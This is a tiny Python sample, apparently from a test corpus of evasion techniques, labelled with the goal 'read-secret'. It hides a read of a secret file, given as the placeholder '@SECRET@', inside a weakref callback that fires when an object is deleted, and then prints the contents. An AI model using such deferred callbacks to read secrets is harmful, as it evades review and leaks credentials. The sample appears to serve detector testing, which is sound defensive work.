# technique: a weakref callback when its object dies
# goal: read-secret
# source: time bombs
import weakref


class Thing:
    pass


thing = Thing()
reference = weakref.ref(thing, lambda _, get=open, say=print: say(get('@SECRET@').read(), flush=True))
del thing
